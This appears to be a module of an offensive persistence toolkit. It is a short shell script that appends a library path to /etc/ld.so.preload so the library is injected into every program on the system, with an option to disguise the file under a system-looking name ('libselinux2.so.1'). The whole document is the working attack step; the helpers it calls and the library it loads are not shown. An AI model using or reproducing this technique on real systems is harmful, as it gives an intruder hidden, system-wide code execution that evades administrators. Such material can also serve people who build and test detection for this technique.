#!/bin/sh
# ld-so-preload: a library in every program (ld.so(8), ld.so.preload)
. "${0%/*}/lib.sh"
only "plain disguised user" "a library has no command line"
l=$(named /usr/local/lib/libp.so "$lib/libselinux2.so.1")
library "$l"
append /etc/ld.so.preload "$l"
